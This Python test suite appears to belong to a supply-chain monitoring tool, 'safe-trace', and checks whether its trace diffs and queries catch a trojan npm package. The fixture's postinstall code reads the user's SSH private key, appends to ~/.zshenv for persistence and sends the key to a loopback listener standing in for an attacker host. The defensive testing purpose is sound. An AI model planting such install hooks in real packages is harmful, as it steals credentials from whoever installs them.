"""The verbs of `safe-trace trace`, on traces of real runs: a package, and a trojan of its name."""

import json
import os
import subprocess
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "managers"))

import environment  # noqa: E402
from npm_case import NpmCase  # noqa: E402
from sinks import TcpSink, http_reply  # noqa: E402
from trace_file import newest_trace  # noqa: E402
from world import read_text  # noqa: E402

CLEAN_JS = "require('fs').writeFileSync('built.txt', 'built')\n"

# %(port)d: a listener on loopback, which stands for the thief's host.
TROJAN_JS = CLEAN_JS + r"""
const fs = require('fs'), path = require('path'), child = require('child_process');
const attempt = (what) => { try { return what(); } catch (error) { return ''; } };
const key = attempt(() => fs.readFileSync(path.join(process.env.HOME, '.ssh/id_rsa'), 'utf8'));
attempt(() => fs.appendFileSync(path.join(process.env.HOME, '.zshenv'), 'echo owned\n'));
fs.writeFileSync('loot.txt', key);
child.spawnSync('python3', ['send.py']);
"""
SEND_PY = """
import socket
try:
    with open("loot.txt", "rb") as file, socket.create_connection(("127.0.0.1", %d), 5) as sink:
        sink.sendall(b"POST / HTTP/1.0\\r\\n\\r\\n" + file.read())
        sink.recv(100)
except OSError:
    pass
"""


class TraceTools(NpmCase):
    with_headers = False

    def setUp(self):
        self.sink = TcpSink(reply=http_reply("thanks"))
        self.addCleanup(self.sink.close)
        super().setUp()

    def fill_registry(self, registry):
        post = {"postinstall": "node post.js"}
        files = {"post.js": CLEAN_JS, "index.js": ""}
        registry.add("st-tiny", "1.0.0", files=files, scripts=post)
        registry.add("st-tiny", "1.0.1", files=files, scripts=post)
        registry.add("st-tiny", "1.0.2", scripts=post, files=dict(
            files, **{"post.js": TROJAN_JS, "send.py": SEND_PY % self.sink.port}))

    def install_tiny(self, version, supervised, world=None, status=0):
        """Returns the world and the path of the trace ("" without supervision)."""
        world, _ = self.manage(
            [self.npm, *self.install], supervised, world=world, status=status,
            prepare=lambda world: self.project(world, {"st-tiny": version}))
        return world, newest_trace(world.state).path if supervised else ""

    def trace_tool(self, *arguments, world=None):
        env = dict(os.environ, XDG_STATE_HOME=world.state) if world else None
        done = subprocess.run([environment.safe_trace(), "trace", *arguments], env=env, timeout=60,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        return done.returncode, done.stdout.decode(), done.stderr.decode()

    def news(self, a, b):
        status, out, err = self.trace_tool("diff", "--json", a, b)
        self.assertIn(status, (0, 1), err)
        found = json.loads(out)["new"]
        self.assertEqual(bool(found), status == 1)
        return {(new["role"], new["package"], new["kind"], new["what"]) for new in found}

    def test_the_trojan_steals_the_key_when_nothing_watches(self):
        world, _ = self.install_tiny("1.0.2", False)
        key = read_text(os.path.join(world.home, ".ssh", "id_rsa"))
        self.assertEqual(1, self.sink.count(key.encode()))
        self.assertIn("owned", read_text(os.path.join(world.home, ".zshenv")))

    def test_diff_names_exactly_what_the_trojan_adds(self):
        _, clean = self.install_tiny("1.0.0", True)
        _, trojan = self.install_tiny("1.0.2", True, status=120)
        python = os.path.basename(os.path.realpath("/usr/bin/python3"))
        news = self.news(clean, trojan)
        programs = {new for new in news if new[2] == "program"}
        writes = {new for new in news if new[2] == "write"}  # what class depends on the world
        tiny = ("package", "st-tiny")
        self.assertEqual({
            (*tiny, "host", "127.0.0.1"),
            (*tiny, "credential", "credential.ssh"),
            (*tiny, "violation", "credential.ssh"),
            (*tiny, "violation", "persistence.shell-startup"),
            (*tiny, "violation", "network.package")}, news - programs - writes)
        self.assertEqual((1, 1), (len(programs), len(writes)), news)
        status, out, err = self.trace_tool("diff", clean, trojan)
        self.assertEqual(1, status, err)
        self.assertIn("package st-tiny (npm)  1.0.0 -> 1.0.2\n", out)
        self.assertIn(python, out)
        self.assertIn(".zshenv (refused)", out)

    def test_diff_of_an_honest_new_version_finds_nothing(self):
        _, old = self.install_tiny("1.0.0", True)
        _, new = self.install_tiny("1.0.1", True)
        self.assertEqual(set(), self.news(old, new))
        status, out, err = self.trace_tool("diff", old, new)
        self.assertEqual(0, status, out + err)
        self.assertIn("nothing new", out)

    def test_query_answers_who_wanted_the_key(self):
        world, trojan = self.install_tiny("1.0.2", True, status=120)
        status, out, err = self.trace_tool("query", "path~=*/.ssh/*", "--count", "package",
                                           "--json", world=world)
        self.assertEqual(0, status, err)
        self.assertEqual(["st-tiny"], [count["value"] for count in json.loads(out)["counts"]])
        status, out, err = self.trace_tool("query", trojan, "kind=alert", "role=manager")
        self.assertEqual((1, ""), (status, out), err)
